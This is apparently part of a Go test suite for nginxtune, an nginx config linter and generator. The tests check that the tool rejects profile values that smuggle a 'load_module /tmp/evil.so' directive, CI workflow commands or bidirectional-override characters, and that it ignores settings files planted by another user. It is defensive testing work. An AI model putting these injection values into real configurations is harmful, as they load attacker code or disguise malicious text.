		"gzip":      "name: x\nkind: static\nroot: /srv\nindex: [index.html]\ntry_files: $uri =404\ngzip_types: [\"text/css;\\nload_module x\"]\nclient_max_body_size: 1m\nkeepalive_timeout: 30s\n",
		"name":      "name: \"x\\nload_module /tmp/evil.so;\"\nkind: static\nroot: /srv\nindex: [index.html]\ntry_files: $uri =404\ngzip_types: [text/css]\nclient_max_body_size: 1m\nkeepalive_timeout: 30s\n",
		"size":      "name: x\nkind: static\nroot: /srv\nindex: [index.html]\ntry_files: $uri =404\ngzip_types: [text/css]\nclient_max_body_size: 1m;evil\nkeepalive_timeout: 30s\n",
		// a workflow command or a bidirectional override in text gen prints
		"description": "name: x\nkind: static\ndescription: \"d ##[error]from-description\"\nroot: /srv\nindex: [index.html]\ntry_files: $uri =404\ngzip_types: [text/css]\nclient_max_body_size: 1m\nkeepalive_timeout: 30s\n",
		"why":         "name: x\nkind: static\nroot: /srv\nindex: [index.html]\ntry_files: $uri =404\ngzip_types: [text/css]\nclient_max_body_size: 1m\nkeepalive_timeout: 30s\ndeny: [{match: '\\.git', why: \"w \\u202e hidden\"}]\n",
	} {
		p := filepath.Join(base, name+".yaml")
		os.WriteFile(p, []byte(profile), 0o644)
		if msg, code := gen("--profile-file", p); code != ExitError {
			t.Errorf("profile %s: exit %d, want 2:\n%s", name, code, msg)
		}
	}
	var files []string
	filepath.Walk(base, func(p string, fi os.FileInfo, err error) error {
		if err == nil && !fi.IsDir() && !strings.HasSuffix(p, ".yaml") {
			files = append(files, p)
		}
		return nil
	})
	if len(files) > 0 {
		t.Errorf("written: %v", files)
	}
	// the ordinary values still pass
	if msg, code := gen("--profile", "static", "--server-name", "app.example.com,*.example.org", "--root", "/srv/www"); code != ExitOK {
		t.Errorf("ordinary values refused: exit %d\n%s", code, msg)
	}
}

// More findings than one run reports is a bound like the tree's: the first
// engine.MaxFindings are printed, stderr says how many more, exit 2.
func TestFindingsCapExits2(t *testing.T) {
	p := filepath.Join(t.TempDir(), "nginx.conf")
	src := "events {}\nhttp {\n" + strings.Repeat("    sendfil on;\n", engine.MaxFindings+5) + "}\n"
	os.WriteFile(p, []byte(src), 0o644)
	out, errOut, code := runCLI(t, "", "lint", "--no-config", "--format", "json", p)
	if code != ExitError || !strings.Contains(errOut, fmt.Sprintf("more findings not shown: nginxtune reports at most %d per run", engine.MaxFindings)) {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	var j struct {
		Findings []struct{ Rule string } `json:"findings"`
	}
	if err := json.Unmarshal([]byte(out), &j); err != nil {
		t.Fatal(err)
	}
	if len(j.Findings) != engine.MaxFindings {
		t.Errorf("%d findings printed, want %d", len(j.Findings), engine.MaxFindings)
	}
	for _, f := range j.Findings {
		if f.Rule == "syntax" {
			t.Fatal("the cap is not a syntax finding")
		}
	}
}

// The attack: in a sticky shared directory above root's checkout, a
// .nginxtune.yaml written by nobody set fail-on: none and disabled the
// security rules; root's lint printed nothing, exit 0. The search stops at
// the repository's top, and a settings file another user owns, even inside
// the repository, is passed over with a notice.
func TestSettingsOfAnotherUserIgnored(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("files of another user need root to make")
	}
	shared := t.TempDir()
	os.Chmod(shared, 0o777|os.ModeSticky)
	silence := []byte("fail-on: none\ndisable: [header-injection]\n")
	repo := filepath.Join(shared, "checkout")
	os.MkdirAll(filepath.Join(repo, ".git"), 0o755)
	conf := filepath.Join(repo, "nginx.conf")
	os.WriteFile(conf, []byte("events {}\nhttp {\n    server {\n        listen 80;\n        location / { add_header X-U $uri; return 200; }\n    }\n}\n"), 0o644)
	lint := func() (string, string, int) {
		return runCLI(t, "", "lint", "--no-host", "--nginx-version", "1.22.1", conf)
	}
	for _, dir := range []string{shared, repo} {
		p := filepath.Join(dir, ".nginxtune.yaml")
		os.WriteFile(p, silence, 0o644)
		os.Chown(p, 65534, 65534)
		out, errOut, code := lint()
		if code != ExitFindings || !strings.Contains(out, "header-injection") {
			t.Errorf("nobody's settings in %s: exit %d, want 1 with the finding:\n%s%s", dir, code, out, errOut)
		}
		if dir == repo && !strings.Contains(errOut, p+" not read: owned by uid 65534") {
			t.Errorf("no notice of the file passed over:\n%s", errOut)
		}
		os.Remove(p)
	}
}
